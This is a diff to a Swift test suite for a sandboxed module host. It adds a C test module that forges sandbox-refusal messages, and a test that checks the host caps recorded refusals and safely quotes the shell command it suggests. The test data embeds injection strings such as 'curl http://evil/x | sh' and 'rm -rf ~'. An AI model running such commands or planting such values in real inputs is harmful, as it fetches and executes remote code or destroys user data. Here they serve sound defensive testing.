@@ -104,18 +104,13 @@ struct IsolationSandboxDenialTests {
         const tab_module_descriptor *tab_module_entry(void) { return &descriptor; }
         """
 
-    /// Writes, on the child's socket in `start`, what a newer child could send: a notification of a type
-    /// this host does not know and a refusal of a category it does not know, both for instance 0.
-    static let newer = """
-        #include "tab_module.h"
-        #include <stdint.h>
-        #include <stdlib.h>
-        #include <string.h>
-        #include <unistd.h>
-        static const tab_host_api *api;
-        static void notice(uint16_t type, uint8_t byte) {
-            unsigned char frame[21];
-            uint32_t length = 17;
+    /// A notice as the child frames one on its socket (fd 3), which a module's code can write too: `type`,
+    /// instance 0, `byte`, then `text` as a string when it is not NULL.
+    static let rawNotice = """
+        static void notice(uint16_t type, uint8_t byte, const char *text) {
+            unsigned char frame[256];
+            uint32_t size = text ? (uint32_t)strlen(text) : 0;
+            uint32_t length = 17 + (text ? 4 + size : 0);
             uint16_t flags = 0;
             uint32_t seq = 0;
             uint64_t instance = 0;
@@ -125,10 +120,23 @@ struct IsolationSandboxDenialTests {
             memcpy(frame + 8, &seq, 4);
             memcpy(frame + 12, &instance, 8);
             frame[20] = byte;
-            if (write(3, frame, sizeof frame) != (ssize_t)sizeof frame) abort();
+            if (text) { memcpy(frame + 21, &size, 4); memcpy(frame + 25, text, size); }
+            if (write(3, frame, 4 + length) != (ssize_t)(4 + length)) abort();
         }
+        """
+
+    /// Writes, on the child's socket in `start`, what a newer child could send: a notification of a type
+    /// this host does not know and a refusal of a category it does not know, both for instance 0.
+    static let newer = """
+        #include "tab_module.h"
+        #include <stdint.h>
+        #include <stdlib.h>
+        #include <string.h>
+        #include <unistd.h>
+        static const tab_host_api *api;
+        \(rawNotice)
         static void *create(const tab_host_api *a, tab_host *host) { (void)host; api = a; return calloc(1, 1); }
-        static void start(void *self, const char *param) { (void)self; (void)param; notice(49, 1); notice(42, 9); }
+        static void start(void *self, const char *param) { (void)self; (void)param; notice(49, 1, NULL); notice(42, 9, NULL); }
         static void render(void *self, tab_view *view) { (void)self; api->text(view, "newer and well"); }
         static void destroy(void *self) { free(self); }
         static const tab_module_descriptor descriptor = {
@@ -138,13 +146,43 @@ struct IsolationSandboxDenialTests {
         const tab_module_descriptor *tab_module_entry(void) { return &descriptor; }
         """
 
+    /// Forges, on the child's socket in `start`, 100 file refusals (`read:/forged/N`), one whose path would
+    /// make the suggested command another one, and an exec refusal: what any module can write there.
+    static let forger = """
+        #include "tab_module.h"
+        #include <stdint.h>
+        #include <stdio.h>
+        #include <stdlib.h>
+        #include <string.h>
+        #include <unistd.h>
+        static const tab_host_api *api;
+        \(rawNotice)
+        static void *create(const tab_host_api *a, tab_host *host) { (void)host; api = a; return calloc(1, 1); }
+        static void start(void *self, const char *param) {
+            (void)self; (void)param;
+            notice(42, 3, "read:/home/me; curl http://evil/x | sh #");
+            char text[64];
+            for (int i = 0; i < 100; i++) { snprintf(text, sizeof text, "read:/forged/%d", i); notice(42, 3, text); }
+            notice(42, 3, "network; rm -rf ~");
+            notice(42, 1, NULL);
+        }
+        static void render(void *self, tab_view *view) { (void)self; api->text(view, "forger and well"); }
+        static void destroy(void *self) { free(self); }
+        static const tab_module_descriptor descriptor = {
+            TAB_MODULE_DESCRIPTOR_HEADER, .name = "forger", .version = "1.0", .title = "Forger",
+            .create = create, .start = start, .render = render, .destroy = destroy,
+        };
+        const tab_module_descriptor *tab_module_entry(void) { return &descriptor; }
+        """
+
     /// A ceiling low enough to reach in a moment, far above what the child maps to start.
     static let ceiling: UInt64 = 256 << 20
 
     private static func host(
-        _ modules: [(file: String, source: String)], tabs: [String], sandbox: SandboxMode = .on
+        _ modules: [(file: String, source: String)], tabs: [String], sandbox: SandboxMode = .on, reportsFiles: Bool = false
     ) throws -> IsolatedHost {
         var settings = IsolatedHost.testSettings
+        settings.sandboxReportsFileDenials = reportsFiles
         // Mapping and touching the ceiling's pages can take longer than a hang test's deadline.
         settings.hangTimeout = .seconds(10)
         settings.killTimeout = .seconds(20)
@@ -188,6 +226,33 @@ struct IsolationSandboxDenialTests {
         #expect(setup.childPID(of: "newer") != nil)
         #expect(!setup.log.lines.contains { $0.contains("protocol violation") || $0.contains(" denied: ") }, "\(setup.log.lines)")
         #expect(setup.factory.deniedPermissions.isEmpty)
+    }
+
+    /// The module's code shares the process that tells the host about refusals, and can forge them (a
+    /// frame on its socket): a file refusal is believed only in test mode, as a valid permission, and a
+    /// child's process names at most `maximumDenials`; the suggested command quotes what a shell would read.
+    /// Without test mode the same frames name nothing but the exec refusal the child could have sent.
+    @Test(arguments: [false, true])
+    func forgedRefusalsAreBoundedAndNeverChangeTheSuggestedCommand(testMode: Bool) throws {
+        let setup = try Self.host([("forger.so", Self.forger)], tabs: ["forger"], reportsFiles: testMode)
+        #expect(setup.texts == ["forger and well"], "\(setup.texts)")
+        let exec = "forger warning: exec denied: grant `exec` (tabhost grant forger exec)"
+        let bounded = "forger warning: further sandbox refusals of this process are not recorded (32 already)"
+        #expect(setup.runLoop(until: { setup.log.lines.contains(testMode ? bounded : exec) }), "\(setup.log.lines)")
+        let named = setup.factory.deniedPermissions["forger"] ?? []
+        if testMode {
+            #expect(named.count == 32 && named.first == "read:/home/me; curl http://evil/x | sh #", "\(named)")
+            #expect(!named.contains("network; rm -rf ~") && !named.contains("exec"), "\(named)")
+            #expect(
+                setup.log.lines.contains(
+                    "forger warning: read:/home/me; curl http://evil/x | sh # denied: grant `read:/home/me; curl http://evil/x | sh #` "
+                        + "(tabhost grant forger 'read:/home/me; curl http://evil/x | sh #')"), "\(setup.log.lines)")
+            #expect(setup.log.lines.filter { $0 == bounded }.count == 1)
+        } else {
+            #expect(named == ["exec"], "\(named)")
+            #expect(!setup.log.lines.contains { $0.contains("read:/") }, "\(setup.log.lines)")
+        }
+        #expect(setup.childPID(of: "forger") != nil)
     }
 
     @Test func withoutTheSandboxNothingIsNamed() throws {
